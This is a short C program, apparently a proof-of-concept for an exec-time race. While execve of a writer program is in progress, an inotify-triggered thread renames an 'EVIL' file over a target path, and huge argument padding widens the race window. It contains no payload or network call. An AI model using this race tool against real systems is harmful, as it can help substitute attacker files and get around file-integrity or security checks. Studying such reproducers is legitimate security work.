/* exec_race TARGET WRITER EVIL: rename EVIL over TARGET from a second
 * thread while the first one is inside execve(2) of WRITER, after the
 * kernel opened WRITER and before the process image changes (the second
 * thread wakes on the open: inotify IN_OPEN; it dies when the exec ends
 * the other threads). The exec copies ~6 MB of arguments meanwhile.
 * WRITER must accept extra arguments (a python: -c CODE ARGS...). */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <unistd.h>

#define NARGS	45
#define ARGLEN	(128 * 1024 - 1)	/* under MAX_ARG_STRLEN */

static int ifd;
static const char *target, *evil;

static void *
renamer(void *arg)
{
	struct inotify_event ev;

	(void)arg;
	if (read(ifd, &ev, sizeof(ev)) > 0)
		rename(evil, target);
	return NULL;
}

int
main(int argc, char **argv)
{
	struct rlimit rl = { 64 << 20, 64 << 20 };	/* room for the args */
	char **av = calloc(NARGS + 4, sizeof(char *));
	pthread_t t;

	if (argc != 4 || av == NULL)
		return 2;
	target = argv[1];
	evil = argv[3];
	setrlimit(RLIMIT_STACK, &rl);
	av[0] = argv[2];
	av[1] = "-c";
	av[2] = "import time; time.sleep(5)";
	for (int i = 0; i < NARGS; i++) {
		if ((av[3 + i] = malloc(ARGLEN + 1)) == NULL)
			return 2;
		memset(av[3 + i], 'x', ARGLEN);
		av[3 + i][ARGLEN] = '\0';
	}
	if ((ifd = inotify_init1(IN_CLOEXEC)) < 0 ||
	    inotify_add_watch(ifd, argv[2], IN_OPEN) < 0 ||
	    pthread_create(&t, NULL, renamer, NULL) != 0)
		return 2;
	execv(argv[2], av);
	perror("execv");
	return 1;
}
